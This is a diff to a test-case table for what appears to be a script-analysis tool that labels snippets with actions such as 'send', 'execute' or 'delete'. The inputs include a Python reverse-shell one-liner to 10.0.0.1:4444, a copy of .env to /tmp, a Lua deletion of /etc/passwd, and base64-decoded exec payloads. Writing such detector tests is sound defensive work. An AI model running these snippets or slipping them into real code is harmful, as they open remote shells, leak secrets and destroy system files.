@@ -70,6 +70,9 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     'import socket,subprocess;s=socket.socket();s.connect(("10.0.0.1",4444));subprocess.call(["/bin/sh","-i"],stdin=s.fileno())':
       ['send  to 10.0.0.1:4444', 'execute sh from unknown'],
     "import socket; s = socket.socket(); s.connect(('db', 5432)); print('up')": ['send  to db:5432'],
+    'd = lambda t: base64.b64decode(t).decode()\nos.system(d(p))': ['execute sh from unknown'],
+    'def d(t):\n    return base64.b64decode(t)\nexec(d(p))': ['execute python from unknown'],
+    'exec(sys.stdin.read())': ['execute python from stdin'],
     "shutil.copy('.env', '/tmp/x')": ['copy /tmp/x from .env'],
     "import json; json.load(open('package.json'))['version']": ['read package.json'],
   },
@@ -134,6 +137,7 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
       'execute sh from unknown',
     ],
   },
+  awk: { '{ system($0) }': ['execute sh from stdin'], '{ print $1 }': [] },
   lua: {
     "os.remove('/etc/passwd')": ['delete /etc/passwd'],
     "print(io.open('a.txt'):read('*a'))": ['read a.txt'],
